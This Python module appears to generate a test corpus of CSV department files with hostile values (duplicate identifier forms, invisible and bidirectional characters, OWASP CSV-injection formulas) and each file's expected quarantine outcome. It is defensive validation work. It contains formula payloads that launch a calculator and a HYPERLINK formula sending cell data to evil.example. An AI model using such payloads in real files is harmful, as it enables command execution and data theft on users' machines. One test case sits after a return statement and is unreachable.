"""A generated corpus of department files whose *values* are hostile (issue 24, classes 2 and 4).

Every case is built here from text (no binary files are committed) and carries its exact
expected outcome: which data rows are quarantined with which reason codes, and the values the
library then stores for the accepted rows (identifiers in their canonical form). The cases run
through the real pipeline in ``test_corpus_values.py``.

- Class 2, one key written two ways: a resident ID in full-width and ASCII digits, with a
  lower-case x, with spaces or zero-width characters, as 15 digits and as its 18-digit upgrade;
  a USCC in lower and upper case or full-width. Within a file both rows are ``DUPLICATE_KEY``;
  across deliveries both forms are one subject.
- Class 4, invisible characters: removed where harmless (zero-width, BOM, soft hyphen, word
  joiner), quarantined where they change what a person reads (bidirectional controls, tags,
  C0/C1 controls); formula payloads of OWASP's CSV-injection guidance quarantined while phone
  numbers, signed numbers and hyphenated text stay accepted.

Run ``python -m tests.ingest.corpus_values OUT_DIR`` to write the files for a look.
"""

from __future__ import annotations

import csv
import io
import sys
from dataclasses import dataclass, field
from pathlib import Path

from schemas import resident_id, uscc

COUNTY = "340403"  # 田家庵区, Huainan: in force today
UPDATED = "2024-06-01"

# a test contract with free-text and typed columns, to show what is legitimate per field type
CONTACTS_CONTRACT = """\
dataset_id: corpus_contacts
title: 联系方式 (corpus)
department: 测试部门
library: population
format: csv
encoding: utf-8
key: [id_number]
subject_column: id_number
authoritative_for: [mobile, contact_address]
cadence_days: 1
columns:
  - {name: id_number, type: string, required: true, field: id_number, rules: [resident_id]}
  - {name: name, type: string, required: true, field: name}
  - {name: phone, type: string, field: mobile}
  - {name: address, type: string, field: contact_address}
  - {name: balance, type: decimal}
  - {name: children, type: int}
"""

HOUSEHOLD_COLUMNS = (
    "id_number",
    "name",
    "sex",
    "ethnic_group",
    "birth_date",
    "household_division",
    "household_address",
    "mobile",
    "marital_status",
    "education",
    "family_size",
    "updated_on",
)
ENTERPRISE_COLUMNS = (
    "uscc",
    "entity_name",
    "legal_rep_name",
    "legal_rep_id_number",
    "registered_capital",
    "capital_currency",
    "established_date",
    "registered_address",
    "registered_division",
    "registration_authority",
    "registration_status",
    "industry",
    "changed_on",
)
CONTACTS_COLUMNS = ("id_number", "name", "phone", "address", "balance", "children")
COLUMNS = {
    "ps_household": HOUSEHOLD_COLUMNS,
    "mr_enterprise": ENTERPRISE_COLUMNS,
    "corpus_contacts": CONTACTS_COLUMNS,
}
ENCODING = {"ps_household": "utf-8", "mr_enterprise": "utf-8-sig", "corpus_contacts": "utf-8"}


def person_id(n: int, *, male: bool = True) -> tuple[str, str]:
    """(18-digit, 15-digit) forms of a valid ID of someone born in 1960-1989 (sequence < 996)."""
    born = f"{60 + n % 30:02d}{1 + n % 12:02d}{1 + n % 28:02d}"
    seq = f"{(n % 99) * 10 + (1 if male else 2):03d}"
    short = f"{COUNTY}{born}{seq}"
    return resident_id.upgrade_15(short), short


def person_with_x(start: int = 0) -> str:
    """A valid 18-digit ID whose check character is X."""
    for n in range(start, start + 500):
        long, _ = person_id(n)
        if long.endswith("X"):
            return long
    raise AssertionError("no ID with check character X")


def entity_code(n: int) -> str:
    """A valid USCC (enterprise, 田家庵区) whose organisation code has letters in it."""
    org = f"{n:02d}ABCD{n % 10}{(n * 7) % 10}"
    body = f"91{COUNTY}{org}{uscc.org_code_check(org)}"
    return body + uscc.check_character(body)


def full_width(text: str) -> str:
    """ASCII letters and digits in their full-width forms (what a Chinese IME types)."""
    return "".join(chr(ord(c) + 0xFEE0) if c.isascii() and c.isalnum() else c for c in text)


def household(n: int, **values: str) -> dict[str, str]:
    """A valid ps_household row for person ``n`` (born as the ID says), then ``values``."""
    long, _ = person_id(n)
    row = {
        "id_number": long,
        "name": "张" + "伟芳娜敏静丽强磊军洋"[n % 10],
        "sex": "1",
        "ethnic_group": "01",
        "birth_date": f"{long[6:10]}-{long[10:12]}-{long[12:14]}",
        "household_division": COUNTY,
        "household_address": f"安徽省淮南市田家庵区舜耕路{n + 1}号",
        "mobile": f"138{n:08d}",
        "marital_status": "20",
        "education": "20",
        "family_size": "3",
        "updated_on": UPDATED,
    }
    return row | values


def enterprise(n: int, **values: str) -> dict[str, str]:
    """A valid mr_enterprise row for entity ``n``, then ``values``."""
    rep, _ = person_id(n + 40)
    row = {
        "uscc": entity_code(n),
        "entity_name": f"淮南市田家庵区第{n + 1}贸易有限公司",
        "legal_rep_name": "李" + "伟芳娜敏静"[n % 5],
        "legal_rep_id_number": rep,
        "registered_capital": "1000000.00",
        "capital_currency": "CNY",
        "established_date": "2010-05-04",
        "registered_address": f"安徽省淮南市田家庵区洞山路{n + 1}号",
        "registered_division": COUNTY,
        "registration_authority": "淮南市田家庵区市场监督管理局",
        "registration_status": "1",
        "industry": "F",
        "changed_on": UPDATED,
    }
    return row | values


def contact(n: int, **values: str) -> dict[str, str]:
    """A valid corpus_contacts row for person ``n``, then ``values``."""
    long, _ = person_id(n)
    row = {
        "id_number": long,
        "name": "王" + "伟芳娜敏静"[n % 5],
        "phone": f"139{n:08d}",
        "address": f"淮南市田家庵区国庆路{n + 1}号",
        "balance": "10.00",
        "children": "1",
    }
    return row | values


@dataclass(frozen=True)
class Case:
    """One department file and its exact expected outcome.

    ``quarantined``: data row (0-based) -> its reason codes, sorted (as the quarantine holds
    them); every other row is accepted. ``stored``: subject key as the library holds it ->
    field -> the value stored for it after this file."""

    name: str
    dataset: str
    rows: tuple[dict[str, str], ...]
    quarantined: dict[int, tuple[str, ...]] = field(default_factory=dict)
    stored: dict[str, dict[str, str]] = field(default_factory=dict)
    klass: int = 2

    @property
    def accepted(self) -> int:
        return len(self.rows) - len(self.quarantined)

    def data(self) -> bytes:
        """The file as the department sends it (CSV in the contract's encoding)."""
        buf = io.StringIO()
        writer = csv.writer(buf, lineterminator="\r\n")
        columns = COLUMNS[self.dataset]
        writer.writerow(columns)
        writer.writerows([row.get(c, "") for c in columns] for row in self.rows)
        return buf.getvalue().encode(ENCODING[self.dataset])

    @property
    def filename(self) -> str:
        return f"{self.name}.csv"


DUP = ("id_number:DUPLICATE_KEY",)
DUP_ROW = ("_row:DUPLICATE_ROW", "id_number:DUPLICATE_KEY")
USCC_DUP = ("uscc:DUPLICATE_KEY",)


def _key_cases() -> list[Case]:
    """Class 2: one key written two ways in one file, and each way alone."""
    a, a15 = person_id(1)
    x = person_with_x()
    code = entity_code(3)
    rep, rep15 = person_id(7)
    return [
        Case(
            "id_full_width_and_ascii",
            "ps_household",
            (household(1), household(1, id_number=full_width(a)), household(2)),
            {0: DUP_ROW, 1: DUP_ROW},
            {person_id(2)[0]: {"name": household(2)["name"]}},
        ),
        Case(
            "id_full_width_and_ascii_different_address",
            "ps_household",
            (household(1), household(1, id_number=full_width(a), household_address="别处1号")),
            {0: DUP, 1: DUP},
        ),
        Case(
            "id_15_and_18_digits",
            "ps_household",
            (household(1, household_address="甲路1号"), household(1, id_number=a15), household(3)),
            {0: DUP, 1: DUP},
            {person_id(3)[0]: {"household_address": household(3)["household_address"]}},
        ),
        Case(
            "id_lower_and_upper_x",
            "ps_household",
            (
                household(0, id_number=x, birth_date=f"{x[6:10]}-{x[10:12]}-{x[12:14]}"),
                household(
                    0,
                    id_number=x.lower(),
                    birth_date=f"{x[6:10]}-{x[10:12]}-{x[12:14]}",
                    name="张某",
                ),
            ),
            {0: DUP, 1: DUP},
        ),
        Case(
            "id_with_spaces_and_zero_width",
            "ps_household",
            (
                household(4),
                household(4, id_number=f"{person_id(4)[0][:6]} {person_id(4)[0][6:]}", name="甲"),
                household(4, id_number="\u200b" + person_id(4)[0] + "\ufeff", name="乙"),
            ),
            {0: DUP, 1: DUP, 2: DUP},
        ),
        Case(
            "id_15_digits_alone_is_stored_as_18",
            "ps_household",
            (household(5, id_number=person_id(5)[1]),),
            stored={person_id(5)[0]: {"id_number": person_id(5)[0]}},
        ),
        Case(
            "id_full_width_alone_is_stored_in_ascii",
            "ps_household",
            (household(6, id_number=full_width(person_id(6)[0])),),
            stored={person_id(6)[0]: {"id_number": person_id(6)[0]}},
        ),
        Case(
            "id_lower_x_alone_is_stored_upper",
            "ps_household",
            (household(0, id_number=x.lower(), birth_date=f"{x[6:10]}-{x[10:12]}-{x[12:14]}"),),
            stored={x: {"id_number": x}},
        ),
        Case(
            "id_digits_of_another_script_are_refused",
            "ps_household",
            (
                household(
                    8, id_number=person_id(8)[0].translate({48 + d: 0x660 + d for d in range(10)})
                ),
            ),
            {0: ("id_number:FORMAT",)},
        ),
        Case(
            "uscc_lower_and_upper",
            "mr_enterprise",
            (
                enterprise(3),
                enterprise(3, uscc=code.lower(), entity_name="别名公司"),
                enterprise(4),
            ),
            {0: USCC_DUP, 1: USCC_DUP},
            {entity_code(4): {"entity_name": enterprise(4)["entity_name"]}},
        ),
        Case(
            "uscc_full_width_and_ascii",
            "mr_enterprise",
            (enterprise(3, uscc=full_width(code)), enterprise(3, registered_address="别处2号")),
            {0: USCC_DUP, 1: USCC_DUP},
        ),
        Case(
            "uscc_lower_and_representative_15_digits_stored_canonical",
            "mr_enterprise",
            (enterprise(5, uscc=entity_code(5).lower(), legal_rep_id_number=rep15),),
            stored={entity_code(5): {"uscc": entity_code(5), "legal_rep_id_number": rep}},
        ),
        Case(
            "representative_full_width_stored_ascii",
            "mr_enterprise",
            (enterprise(6, legal_rep_id_number=full_width(rep)),),
            stored={entity_code(6): {"legal_rep_id_number": rep}},
        ),
        Case(
            "literal_duplicates_as_before",
            "ps_household",
            (household(9), household(9), household(10)),
            {0: DUP_ROW, 1: DUP_ROW},
        ),
    ]


def _invisible_cases() -> list[Case]:
    """Class 4: invisible and control characters, one case per character class."""
    k = 4

    def one(name: str, column: str, value: str, code: str | None, stored: str = "") -> Case:
        row = household(20, **{column: value})
        subject = person_id(20)[0]
        if code is None:
            return Case(name, "ps_household", (row,), stored={subject: {column: stored}}, klass=k)
        return Case(name, "ps_household", (row, household(21)), {0: (f"{column}:{code}",)}, klass=k)

    return [
        one("zwsp_around_name_removed", "name", "\u200b张伟\u200b", None, "张伟"),
        one("zwnj_zwj_in_name_removed", "name", "张\u200c伟\u200d", None, "张伟"),
        one(
            "bom_inside_address_removed", "household_address", "舜耕路\ufeff1号", None, "舜耕路1号"
        ),
        one(
            "soft_hyphen_word_joiner_removed",
            "household_address",
            "舜\u00ad耕\u2060路",
            None,
            "舜耕路",
        ),
        one("zero_width_in_code_field_removed", "sex", "\u200b1", None, "1"),
        one("rlo_in_name_quarantined", "name", "\u202e伟张", "BIDI_CONTROL"),
        one(
            "lre_pdf_in_address_quarantined",
            "household_address",
            "舜耕路\u202a12\u202c号",
            "BIDI_CONTROL",
        ),
        one(
            "isolates_in_address_quarantined",
            "household_address",
            "\u2066甲\u2069路1号",
            "BIDI_CONTROL",
        ),
        one("rlm_in_name_quarantined", "name", "张\u200f伟", "BIDI_CONTROL"),
        one("arabic_letter_mark_quarantined", "name", "张\u061c伟", "BIDI_CONTROL"),
        one("tag_characters_quarantined", "name", "张伟\U000e0041\U000e0042", "INVISIBLE_CHAR"),
        one("interlinear_annotation_quarantined", "name", "张\ufff9伟\ufffb", "INVISIBLE_CHAR"),
        one("c0_control_in_name_quarantined", "name", "张\x01伟", "CONTROL_CHAR"),
        one(
            "escape_in_address_quarantined",
            "household_address",
            "舜耕路\x1b[31m1号",
            "CONTROL_CHAR",
        ),
        one("delete_in_name_quarantined", "name", "张\x7f伟", "CONTROL_CHAR"),
        one("c1_control_in_name_quarantined", "name", "张\x9b伟", "CONTROL_CHAR"),
    ]
    +[
        Case(
            "bidi_in_identifier_also_fails_its_format",
            "ps_household",
            (household(20, id_number="\u202d" + person_id(20)[0]), household(21)),
            {0: ("id_number:BIDI_CONTROL", "id_number:FORMAT")},
            klass=k,
        ),
    ]


def _formula_cases() -> list[Case]:
    """Class 4: OWASP CSV-injection payloads refused; legitimate values per field type kept."""
    k = 4
    subject = person_id(30)[0]

    def bad(name: str, column: str, value: str, code: str = "FORMULA") -> Case:
        rows = (contact(30, **{column: value}), contact(31))
        return Case(name, "corpus_contacts", rows, {0: (f"{column}:{code}",)}, klass=k)

    def good(name: str, column: str, value: str, field_name: str, stored: str) -> Case:
        rows = (contact(30, **{column: value}),)
        return Case(name, "corpus_contacts", rows, stored={subject: {field_name: stored}}, klass=k)

    return [
        bad("equals_cmd", "address", "=cmd|' /C calc'!A0"),
        bad("minus_arithmetic_cmd", "address", "-2+3+cmd|' /C calc'!A0"),
        bad("plus_arithmetic_cmd", "address", "+1+cmd|' /C calc'!A0"),
        bad("at_sum_cmd", "name", "@SUM(1+9)*cmd|' /C calc'!A0"),
        bad("hyperlink", "name", '=HYPERLINK("http://evil.example/?leak="&A1,"点击")'),
        bad("leading_tab_then_equals", "address", "\t=1+1"),
        # (a leading CR cannot reach the engine in a CSV: a line break inside a value refuses
        # the file at its line, see test_corpus_values; the engine's rule covers it on its own)
        bad("leading_quote_then_equals", "address", "'=1+1"),
        bad("leading_double_quote_then_at", "name", '"@SUM(1)'),
        bad("spaces_then_minus_cmd", "address", "   -cmd|' /C calc'!A0"),
        bad("zero_width_hidden_before_equals", "address", "\u200b=1+1"),
        bad("phone_with_letters", "phone", "+86 DDE(1)"),
        bad("payload_in_decimal_is_a_type_error", "balance", "-2+3+cmd|' /C calc'!A0", "TYPE"),
        bad("formula_in_int_is_a_type_error", "children", "=1+1", "TYPE"),
        good("phone_plus_86_spaces", "phone", "+86 138 0013 8000", "mobile", "+86 138 0013 8000"),
        good(
            "phone_plus_parenthesised_86",
            "phone",
            "+(86) 138 0013 8000",
            "mobile",
            "+(86) 138 0013 8000",
        ),
        good("phone_plus_space_86", "phone", "+ 86 138 0013 8000", "mobile", "+ 86 138 0013 8000"),
        good("phone_plus_86_dashes", "phone", "+86-551-6262-0000", "mobile", "+86-551-6262-0000"),
        good(
            "address_dash_inside",
            "address",
            "淮南市田家庵区舜耕路12-3号",
            "contact_address",
            "淮南市田家庵区舜耕路12-3号",
        ),
        good("address_lone_dash", "address", "-", "contact_address", "-"),
        good("name_with_hyphen_inside", "name", "Jean-Paul", "name", "Jean-Paul"),
    ]


def _mixed_cases() -> list[Case]:
    """Several classes in one file: each row gets its own outcome, the rest are unaffected."""
    b, b15 = person_id(41)
    rows = (
        household(40),
        household(41, name="\u200b李四"),
        household(42, name="\u202e四李"),
        household(43, household_address="-2+3+cmd|' /C calc'!A0"),
        household(41, id_number=b15, name="李四"),
        household(44, household_address="\ufeff淮南市\u00ad田家庵区"),
        household(45, name="王\x02五"),
    )
    quarantined = {  # rows 1 and 4 are one row once the ZWSP is gone and 15 digits are 18
        1: DUP_ROW,
        2: ("name:BIDI_CONTROL",),
        3: ("household_address:FORMULA",),
        4: DUP_ROW,
        6: ("name:CONTROL_CHAR",),
    }
    stored = {
        person_id(40)[0]: {"name": household(40)["name"]},
        person_id(44)[0]: {"household_address": "淮南市田家庵区"},
    }
    assert b not in stored
    return [Case("several_classes_in_one_file", "ps_household", rows, quarantined, stored, 4)]


def _typed_cases() -> list[Case]:
    """Signed numbers in numeric fields are numbers, not formulas."""
    rows = (contact(32, balance="-12.50", children="+2"), contact(33, balance="+7"))
    return [Case("signed_numbers_in_numeric_fields", "corpus_contacts", rows, klass=4)]


def cases() -> list[Case]:
    """Every single-file case of the corpus."""
    return [
        *_key_cases(),
        *_invisible_cases(),
        *_formula_cases(),
        *_typed_cases(),
        *_mixed_cases(),
    ]


@dataclass(frozen=True)
class Deliveries:
    """Several files of one dataset in order, and the library's subjects and values after."""

    name: str
    dataset: str
    files: tuple[Case, ...]
    subjects: tuple[str, ...]
    stored: dict[str, dict[str, str]]


def deliveries() -> list[Deliveries]:
    """Class 2 across a library: later files naming a subject another way reach the same one."""
    a, a15 = person_id(11)
    code = entity_code(12)
    return [
        Deliveries(
            "id_18_then_15_digits",
            "ps_household",
            (
                Case("first_18", "ps_household", (household(11),)),
                Case(
                    "then_15",
                    "ps_household",
                    (household(11, id_number=a15, household_address="新地址9号"),),
                ),
            ),
            (a,),
            {a: {"id_number": a, "household_address": "新地址9号"}},
        ),
        Deliveries(
            "id_15_then_full_width",
            "ps_household",
            (
                Case("first_15", "ps_household", (household(11, id_number=a15),)),
                Case(
                    "then_full_width",
                    "ps_household",
                    (household(11, id_number=full_width(a), household_address="又一地址"),),
                ),
            ),
            (a,),
            {a: {"id_number": a, "household_address": "又一地址"}},
        ),
        Deliveries(
            "uscc_lower_then_upper",
            "mr_enterprise",
            (
                Case("first_lower", "mr_enterprise", (enterprise(12, uscc=code.lower()),)),
                Case("then_upper", "mr_enterprise", (enterprise(12, registered_address="新址"),)),
            ),
            (code,),
            {code: {"uscc": code, "registered_address": "新址"}},
        ),
    ]


def write(out: Path) -> list[Path]:
    """Write every case's file under ``out`` (for a person to look at them)."""
    out.mkdir(parents=True, exist_ok=True)
    paths = []
    for case in cases():
        path = out / case.dataset / case.filename
        path.parent.mkdir(exist_ok=True)
        path.write_bytes(case.data())
        paths.append(path)
    return paths


if __name__ == "__main__":
    for p in write(Path(sys.argv[1] if len(sys.argv) > 1 else "corpus_values")):
        print(p)
